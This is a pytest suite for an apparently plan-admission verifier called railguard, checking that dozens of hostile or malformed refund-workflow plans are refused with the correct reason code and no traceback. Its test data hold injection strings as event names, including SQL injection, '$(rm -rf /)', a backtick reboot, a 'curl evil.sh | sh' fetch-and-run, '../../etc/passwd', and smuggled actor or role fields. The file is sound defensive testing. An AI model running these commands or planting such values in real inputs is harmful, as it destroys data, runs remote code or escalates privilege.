"""Hostile and broken plans: each is refused with the right reason (a rejection code, or
unusable input), within bounded memory, with a one-sentence message and no traceback."""

from __future__ import annotations

import json
import subprocess
import sys
import tracemalloc
from typing import Any

import pytest

from railguard.spec import load
from railguard.verifier.admission import (
    MAX_MESSAGE,
    Admitted,
    Gate,
    Principal,
    Rejected,
    new_instance,
)
from railguard.verifier.plans import PlanError, loads_plan

from .conftest import EXAMPLES
from .gatekit import TINY, WORKER

ALICE = Principal("alice", frozenset({"support"}))
ERIN = Principal("erin", frozenset({"support", "manager"}))
REQUEST = {"event": "request", "params": {"amount": 100}}


def refund_plan(*steps: Any, **top: Any) -> str:
    return json.dumps({"workflow": "refund", "steps": list(steps), **top}, ensure_ascii=False)


def request(amount: Any) -> dict[str, Any]:
    return {"event": "request", "params": {"amount": amount}}


EVENT_NAMES = [
    "bogus", "Request", "REQUEST", "requ\u0435st", "req\u03c5est", "request\u200b", "\u200brequest", "\uff52\uff45\uff51\uff55\uff45\uff53\uff54",
    "request; DROP TABLE instances;--", "' OR 1=1 --", "$(rm -rf /)", "`reboot`", "request && curl evil.sh | sh",
    "../../etc/passwd", "", " request", "request\n", "\x00", "\x1b[31mrequest", "__init__", "eval", "approve()",
    "refund.request", "draft->paid", "a" * 100_000, "🙂",
]

# (name, principal, plan text, expected: a reason code or "unusable:<plan error code>", expected step)
CASES: list[tuple[str, Principal, str, str, int | None]] = [
    *[(f"event name {i}: {name[:20]!r}", ALICE, refund_plan({"event": name}), "unknown-event", 0) for i, name in enumerate(EVENT_NAMES)],
    # a lone surrogate is not text: it could not even be written to the audit log
    ("event name: a lone surrogate", ALICE, refund_plan({"event": "\ud800"}), "unusable:not-a-plan", None),
    ("unknown event after a good step", ALICE, refund_plan(REQUEST, {"event": "approve_all"}), "unknown-event", 1),
    ("pay before anything", ALICE, refund_plan({"event": "pay"}), "not-enabled", 0),
    ("approve before a request", ERIN, refund_plan({"event": "approve"}), "not-enabled", 0),
    ("a step after a terminal", ALICE, refund_plan(REQUEST, {"event": "cancel"}, {"event": "cancel"}), "not-enabled", 2),
    ("skip approval and pay", ALICE, refund_plan(REQUEST, {"event": "pay"}), "not-enabled", 1),
    ("support approves: privilege escalation", ALICE, refund_plan(REQUEST, {"event": "approve"}), "permission-denied", 1),
    ("support rejects", ALICE, refund_plan(REQUEST, {"event": "reject"}), "permission-denied", 1),
    ("a principal without roles", Principal("nobody"), refund_plan(REQUEST), "permission-denied", 0),
    ("the system as actor", Principal("system", frozenset({"support"})), refund_plan(REQUEST), "permission-denied", 0),
    ("approving one's own request", ERIN, refund_plan(REQUEST, {"event": "approve"}), "guard-false", 1),
    ("over the refund limit", ALICE, refund_plan(request(6000)), "guard-false", 0),
    ("true for an int", ALICE, refund_plan(request(True)), "bad-params", 0),
    ("100.5 for an int", ALICE, refund_plan(request(100.5)), "bad-params", 0),
    ("100.0 for an int", ALICE, refund_plan(request(100.0)), "bad-params", 0),
    ("'100' for an int", ALICE, refund_plan(request("100")), "bad-params", 0),
    ("0 below the minimum", ALICE, refund_plan(request(0)), "bad-params", 0),
    ("negative amount", ALICE, refund_plan(request(-100)), "bad-params", 0),
    ("above the maximum", ALICE, refund_plan(request(10001)), "bad-params", 0),
    ("a huge int", ALICE, refund_plan(request(10**100)), "bad-params", 0),
    ("1e400 for an int", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": 1e400}}]}', "bad-params", 0),
    ("null for a required int", ALICE, refund_plan(request(None)), "bad-params", 0),
    ("missing a required param", ALICE, refund_plan({"event": "request", "params": {}}), "bad-params", 0),
    ("a list for an int", ALICE, refund_plan(request([100])), "bad-params", 0),
    ("nested lists for an int", ALICE, refund_plan(request([[1], [2]])), "bad-params", 0),
    ("an object for an int", ALICE, refund_plan(request({"value": 100})), "bad-params", 0),
    ("$open false is not a marker", ALICE, refund_plan(request({"$open": False})), "bad-params", 0),
    ("an extra param", ALICE, refund_plan({"event": "request", "params": {"amount": 10, "to": "me"}}), "bad-params", 0),
    ("an actor smuggled as a param", ALICE, refund_plan({"event": "request", "params": {"amount": 10, "actor": "bob"}}), "bad-params", 0),
    ("a param on an event without params", ERIN, refund_plan({"event": "cancel", "params": {"force": True}}), "bad-params", 0),
    ("an open amount that can exceed the limit", ALICE, refund_plan(request({"$open": True})), "guard-false", 0),
    ("an open param the event does not have", ALICE, refund_plan({"event": "request", "params": {"amount": 5, "why": {"$open": True}}}), "bad-params", 0),
    ("a plan for another workflow", ALICE, json.dumps({"workflow": "order", "steps": [REQUEST]}), "wrong-workflow", 0),
    ("a workflow name with spaces", ALICE, json.dumps({"workflow": "refund ", "steps": [REQUEST]}), "wrong-workflow", 0),
    ("a workflow name in capitals", ALICE, json.dumps({"workflow": "REFUND", "steps": [REQUEST]}), "wrong-workflow", 0),
    ("100,000 steps", ALICE, refund_plan(*([REQUEST] * 100_000)), "too-large", 1000),
    ("1,001 steps", ALICE, refund_plan(*([{"event": "cancel"}] * 1001)), "too-large", 1000),
    ("actor at the top", ALICE, refund_plan(REQUEST, actor="bob"), "unusable:identity", None),
    ("roles at the top", ALICE, refund_plan(REQUEST, roles=["manager"]), "unusable:identity", None),
    ("actor in a step", ALICE, refund_plan({**REQUEST, "actor": "bob"}), "unusable:identity", None),
    ("roles in a step", ALICE, refund_plan({**REQUEST, "roles": ["payments"]}), "unusable:identity", None),
    ("principal at the top", ALICE, refund_plan(REQUEST, principal="root"), "unusable:identity", None),
    ("an unknown top-level field", ALICE, refund_plan(REQUEST, note="trust me"), "unusable:not-a-plan", None),
    ("an unknown step field", ALICE, refund_plan({**REQUEST, "sudo": True}), "unusable:not-a-plan", None),
    ("20,000-deep JSON", ALICE, "[" * 20_000 + "]" * 20_000, "unusable:too-deep", None),
    ("20,000-deep params", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": ' + "[" * 20_000 + "]" * 20_000 + "}}]}", "unusable:too-deep", None),
    ("not JSON", ALICE, "steps: [request]", "unusable:not-json", None),
    ("truncated JSON", ALICE, refund_plan(REQUEST)[:-5], "unusable:not-json", None),
    ("trailing garbage", ALICE, refund_plan(REQUEST) + " rm -rf /", "unusable:not-json", None),
    ("NaN", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": NaN}}]}', "unusable:not-json", None),
    ("Infinity", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": Infinity}}]}', "unusable:not-json", None),
    ("a JSON list", ALICE, json.dumps([REQUEST]), "unusable:not-a-plan", None),
    ("a JSON string", ALICE, json.dumps("request then pay"), "unusable:not-a-plan", None),
    ("null", ALICE, "null", "unusable:not-a-plan", None),
    ("steps as an object", ALICE, json.dumps({"workflow": "refund", "steps": {"0": REQUEST}}), "unusable:not-a-plan", None),
    ("a step as a string", ALICE, json.dumps({"workflow": "refund", "steps": ["request"]}), "unusable:not-a-plan", None),
    ("an event as a number", ALICE, json.dumps({"workflow": "refund", "steps": [{"event": 1}]}), "unusable:not-a-plan", None),
    ("a 5,000-digit number", ALICE, '{"workflow": "refund", "steps": [{"event": "request", "params": {"amount": ' + "9" * 5000 + "}}]}", "bad-params", 0),
]

TINY_CASES: list[tuple[str, str, str, int]] = [
    ("an assignment out of its domain", json.dumps({"workflow": "tiny", "steps": [{"event": "begin"}, {"event": "step", "params": {"k": 2}}, {"event": "step", "params": {"k": 2}}]}), "domain", 2),
    ("an invariant broken by the plan", json.dumps({"workflow": "tiny", "steps": [{"event": "begin"}, {"event": "step", "params": {"k": 2}}, {"event": "step", "params": {"k": 1}}]}), "invariant", 2),
    ("an open step that can break the invariant", json.dumps({"workflow": "tiny", "steps": [{"event": "begin"}, {"event": "step", "params": {"k": 1}}, {"event": "step", "params": {"k": {"$open": True}}}]}), "invariant", 2),
]


@pytest.fixture(scope="module")
def gate() -> Gate:
    return Gate(load(EXAMPLES / "refund.yaml"), allow_unverified="tests: the refund spec is certified elsewhere")


def _answer(gate: Gate, principal: Principal, text: str) -> str | Rejected:
    try:
        plan = loads_plan(text)
    except PlanError as exc:
        error = exc
    else:
        error = None
    if error is not None:
        assert error.message
        assert "\n" not in error.message
        return f"unusable:{error.code}"
    answer = gate.admit(plan, principal, new_instance(gate.spec))
    assert not isinstance(answer, Admitted)
    return answer


def test_there_are_at_least_sixty_hostile_plans() -> None:
    assert len(CASES) + len(TINY_CASES) >= 60


@pytest.mark.parametrize(("name", "principal", "text", "expected", "step"), CASES, ids=[c[0] for c in CASES])
def test_a_hostile_plan_is_refused_with_the_right_reason(gate: Gate, name: str, principal: Principal, text: str, expected: str, step: int | None) -> None:
    tracemalloc.start()
    try:
        answer = _answer(gate, principal, text)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 256 * 1024 * 1024
    if isinstance(answer, str):
        assert answer == expected
        return
    assert answer.code == expected
    assert answer.step == step
    assert len(answer.message) <= MAX_MESSAGE
    assert answer.message.isprintable()
    json.dumps(answer.to_json())


@pytest.mark.parametrize(("name", "text", "expected", "step"), TINY_CASES, ids=[c[0] for c in TINY_CASES])
def test_a_broken_plan_on_a_spec_without_a_proof_is_refused(name: str, text: str, expected: str, step: int) -> None:
    from railguard.spec import loads

    gate = Gate(loads(TINY), allow_unverified="tests")
    answer = _answer(gate, WORKER, text)
    assert isinstance(answer, Rejected)
    assert (answer.code, answer.step) == (expected, step)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (refund_plan({"event": "$(rm -rf /)"}), 1),
        (refund_plan(REQUEST, actor="bob"), 2),
        ("[" * 20_000 + "]" * 20_000, 2),
        (refund_plan(*([REQUEST] * 100_000)), 1),
        ("\xff\xfe not utf-8", 2),
    ],
    ids=["shell-event", "actor", "deep", "huge", "bytes"],
)
def test_the_cli_answers_hostile_plans_with_an_exit_code_and_no_traceback(tmp_path: Any, text: str, code: int) -> None:
    path = tmp_path / "plan.json"
    path.write_bytes(text.encode("utf-8", "surrogateescape") if "\xff" not in text else b"\xff\xfe not utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "railguard", "admit", str(EXAMPLES / "refund.yaml"), str(path), "--actor", "alice", "--roles", "support", "--allow-unverified", "tests", "--format", "json"],
        capture_output=True, text=True, check=False,
    )
    assert done.returncode == code, done.stderr
    assert "Traceback" not in done.stderr
    if code == 1:
        assert json.loads(done.stdout)["admitted"] is False
